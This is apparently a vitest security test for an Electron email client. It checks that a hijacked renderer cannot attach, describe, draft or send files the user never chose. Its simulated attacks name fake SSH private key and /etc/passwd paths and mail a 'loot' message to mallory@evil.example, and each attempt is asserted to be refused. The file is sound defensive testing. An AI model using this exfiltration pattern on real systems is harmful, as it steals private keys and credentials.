/**
 * The renderer never names a file (issue 13 item 2). A page script that took over the window
 * would call the router exactly as these tests do: with paths to files the person never gave
 * (a fake `~/.ssh/id_rsa`, a fake `/etc/passwd`) or with guessed file ids. Nothing may be
 * attached, described, kept in a draft or delivered. Each legitimate way in (main's file dialog,
 * a draft restored after a restart) still delivers the file byte for byte.
 */
import { createHash, randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { simpleParser } from 'mailparser';
import { afterEach, beforeEach, expect, test } from 'vitest';
import type { Account, Draft, FileInfo, Result } from '../../../electron/ipc/contract';
import { systemClock, type Clock } from '../../../electron/shared/ports';
import { createNodeCipher } from '../../support/node-cipher';
import { startAppHost, type AppHost, type AppHostOptions } from '../../support/app-host';
import { startSandbox, type Sandbox } from '../../support/sandbox';
import { completeLogin } from '../../support/sandbox/browser-login';
import { tempDataDir } from '../../support/node-ports';

const SECRET = 'FAKE PRIVATE KEY: never leaves this machine';
const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');

let sandbox: Sandbox;
const running: AppHost[] = [];
beforeEach(async () => {
  sandbox = await startSandbox({ users: [{ email: 'demo@quicksend.test', name: 'Demo User' }] });
});
afterEach(async () => {
  for (const app of running.splice(0)) await app.stop();
  await sandbox.stop();
});

/** A home folder with files nobody dropped or picked, and one document the person will pick. */
function fakeHome() {
  const home = mkdtempSync(path.join(os.tmpdir(), 'quicksend-home-'));
  mkdirSync(path.join(home, '.ssh'));
  mkdirSync(path.join(home, 'etc'));
  const idRsa = path.join(home, '.ssh', 'id_rsa');
  const passwd = path.join(home, 'etc', 'passwd');
  const report = path.join(home, 'report.pdf');
  writeFileSync(idRsa, SECRET, { mode: 0o600 });
  writeFileSync(passwd, 'root:x:0:0:root:/root:/bin/bash\n');
  writeFileSync(report, randomBytes(70_000));
  return { idRsa, passwd, report };
}

type App = AppHost & { call<T = unknown>(channel: string, payload?: unknown): Promise<Result<T>>; chosen: string[] };

async function openApp(options: Partial<AppHostOptions> = {}): Promise<App> {
  const chosen: string[] = [];
  const host = await startAppHost({
    browser: {
      open: async (url) => void completeLogin(url, 'demo@quicksend.test', { visitCallback: true }).catch(() => {}),
    },
    sandboxInstance: sandbox,
    ...options,
    // The person's choice in main's own file dialog.
    ports: { fileDialog: { chooseFiles: async () => chosen.splice(0) }, ...options.ports },
  });
  running.push(host);
  const call = <T>(channel: string, payload: unknown = {}) =>
    host.core.router.handle(channel, payload, { frameUrl: `${host.host.origin}/`, isMainFrame: true }) as Promise<
      Result<T>
    >;
  return Object.assign(host, { call, chosen });
}

function value<T>(result: Result<T>): T {
  if (!result.ok) throw new Error(`${result.error.code}: ${result.error.message}`);
  return result.value;
}

async function signedIn(app: App): Promise<string> {
  value(await app.call('settings:set', { undoDelaySeconds: 0 }));
  return value(await app.call<Account>('accounts:add', { providerId: 'sandbox' })).id;
}

const guessedId = () => randomBytes(16).toString('base64url');
const loot = (accountId: string, attachments: unknown[]) => ({
  accountId,
  to: ['mallory@evil.example'],
  subject: 'loot',
  text: 'see attached',
  attachments,
});

test('mail:send naming files the person never gave attaches nothing and delivers nothing', async () => {
  const { idRsa, passwd, report } = fakeHome();
  const app = await openApp();
  const accountId = await signedIn(app);

  const forged = await app.call('mail:send', loot(accountId, [{ path: idRsa }, { path: passwd }]));
  expect(forged).toMatchObject({
    ok: false,
    error: { code: 'files.path_refused', message: expect.stringMatching(/file path/) },
  });
  // A path where a file id belongs, and a guessed file id, attach nothing either.
  expect(await app.call('mail:send', loot(accountId, [{ fileId: idRsa }]))).toMatchObject({
    ok: false,
    error: { code: 'ipc.invalid_request' },
  });
  expect(await app.call('mail:send', loot(accountId, [{ fileId: guessedId() }]))).toMatchObject({
    ok: false,
    error: { code: 'files.unknown_file' },
  });
  expect(value(await app.call<{ items: unknown[] }>('outbox:list')).items).toEqual([]);

  // Control: the same message with the file the person picked in Attach… goes out, alone.
  app.chosen.push(report);
  const [picked] = value(await app.call<FileInfo[]>('files:choose'));
  expect(picked).toEqual({
    fileId: expect.stringMatching(/^[\w-]{22}$/),
    name: 'report.pdf',
    sizeBytes: 70_000,
    problem: null,
  });
  value(await app.call('mail:send', { ...loot(accountId, [{ fileId: picked!.fileId }]), to: ['ann@example.com'] }));
  const [received] = await sandbox.smtp.waitForMessages(1, 10_000);
  const raw = await sandbox.smtp.read(received!.id);
  const parsed = await simpleParser(raw);
  expect(received!.to).toEqual(['ann@example.com']);
  expect(parsed.attachments.map((a) => [a.filename, sha256(a.content)])).toEqual([
    ['report.pdf', sha256(readFileSync(report))],
  ]);
  expect(sandbox.smtp.messages()).toHaveLength(1);
  expect(raw.toString('latin1')).not.toContain(Buffer.from(SECRET).toString('base64').slice(0, 20));
});

test('files:describe answers only for files the person gave', async () => {
  const { idRsa, report } = fakeHome();
  const app = await openApp();

  const forged = await app.call('files:describe', { paths: [idRsa] });
  expect(forged).toMatchObject({ ok: false, error: { code: 'files.path_refused' } });
  expect(JSON.stringify(forged)).not.toContain('id_rsa');
  expect(await app.call('files:describe', { fileIds: [guessedId()] })).toMatchObject({
    ok: false,
    error: { code: 'files.unknown_file' },
  });

  app.chosen.push(report);
  const [picked] = value(await app.call<FileInfo[]>('files:choose'));
  expect(value(await app.call<FileInfo[]>('files:describe', { fileIds: [picked!.fileId] }))).toEqual([picked]);
});

test('a draft naming a path is refused; a draft of a picked file survives a restart with a fresh file id', async () => {
  const { idRsa, report } = fakeHome();
  const dataDir = tempDataDir();
  const cipher = createNodeCipher();
  const first = await openApp({ dataDir, ports: { cipher } });
  const accountId = await signedIn(first);
  const base = { accountId, to: ['ann@example.com'], cc: [], bcc: [], subject: 'Report', text: 'Attached.' };

  const forged = await first.call('drafts:save', {
    draft: { ...base, attachments: [{ path: idRsa, name: 'id_rsa', sizeBytes: SECRET.length }] },
  });
  expect(forged).toMatchObject({ ok: false, error: { code: 'files.path_refused' } });
  expect(value(await first.call('drafts:get'))).toBeNull();
  const guessed = await first.call('drafts:save', {
    draft: { ...base, attachments: [{ fileId: guessedId(), name: 'id_rsa', sizeBytes: 1 }] },
  });
  expect(guessed).toMatchObject({ ok: false, error: { code: 'files.unknown_file' } });
  expect(value(await first.call('drafts:get'))).toBeNull();

  first.chosen.push(report);
  const [picked] = value(await first.call<FileInfo[]>('files:choose'));
  value(
    await first.call('drafts:save', {
      draft: { ...base, attachments: [{ fileId: picked!.fileId, name: 'report.pdf', sizeBytes: 70_000 }] },
    }),
  );
  await first.stop();
  running.splice(running.indexOf(first), 1);

  const second = await openApp({ dataDir, ports: { cipher } });
  const restored = value(await second.call<Draft>('drafts:get'));
  expect(restored.attachments).toEqual([
    { fileId: expect.stringMatching(/^[\w-]{22}$/), name: 'report.pdf', sizeBytes: 70_000 },
  ]);
  const fresh = restored.attachments[0]!.fileId;
  expect(fresh).not.toBe(picked!.fileId);
  // File ids live for one run: the old one names nothing now.
  expect(await second.call('mail:send', { ...base, attachments: [{ fileId: picked!.fileId }] })).toMatchObject({
    ok: false,
    error: { code: 'files.unknown_file' },
  });
  value(await second.call('settings:set', { undoDelaySeconds: 0 }));
  value(await second.call('mail:send', { ...base, attachments: [{ fileId: fresh }] }));
  const [received] = await sandbox.smtp.waitForMessages(1, 10_000);
  const parsed = await simpleParser(await sandbox.smtp.read(received!.id));
  expect(parsed.attachments.map((a) => [a.filename, sha256(a.content)])).toEqual([
    ['report.pdf', sha256(readFileSync(report))],
  ]);
});

test('a file id expires once nothing refers to it: not in the current draft and past its grace period', async () => {
  const { report } = fakeHome();
  let shift = 0;
  const clock: Clock = { ...systemClock, now: () => Date.now() + shift };
  const app = await openApp({ ports: { clock }, core: { files: { graceMs: 60_000 } } });
  const accountId = await signedIn(app);
  const base = { accountId, to: ['ann@example.com'], cc: [], bcc: [], subject: 'Report', text: 'Attached.' };

  const notes = path.join(path.dirname(report), 'notes.txt');
  writeFileSync(notes, 'notes');
  app.chosen.push(notes);
  const [loose] = value(await app.call<FileInfo[]>('files:choose'));
  app.chosen.push(report);
  const [kept] = value(await app.call<FileInfo[]>('files:choose'));
  value(
    await app.call('drafts:save', {
      draft: { ...base, attachments: [{ fileId: kept!.fileId, name: 'report.pdf', sizeBytes: 70_000 }] },
    }),
  );

  shift += 60_001;
  // Handed out a minute ago and held by nothing: gone.
  expect(await app.call('mail:send', { ...base, attachments: [{ fileId: loose!.fileId }] })).toMatchObject({
    ok: false,
    error: { code: 'files.unknown_file' },
  });
  expect(await app.call('files:describe', { fileIds: [loose!.fileId] })).toMatchObject({
    ok: false,
    error: { code: 'files.unknown_file' },
  });
  // Held by the draft: still good, however old.
  value(await app.call('mail:send', { ...base, attachments: [{ fileId: kept!.fileId }] }));
  // Sent, and the composer clears its draft: now nothing holds it.
  value(await app.call('drafts:save', { draft: null }));
  expect(await app.call('files:describe', { fileIds: [kept!.fileId] })).toMatchObject({
    ok: false,
    error: { code: 'files.unknown_file' },
  });
  const [received] = await sandbox.smtp.waitForMessages(1, 10_000);
  expect((await simpleParser(await sandbox.smtp.read(received!.id))).attachments.map((a) => a.filename)).toEqual([
    'report.pdf',
  ]);
  expect(sandbox.smtp.messages()).toHaveLength(1);
});
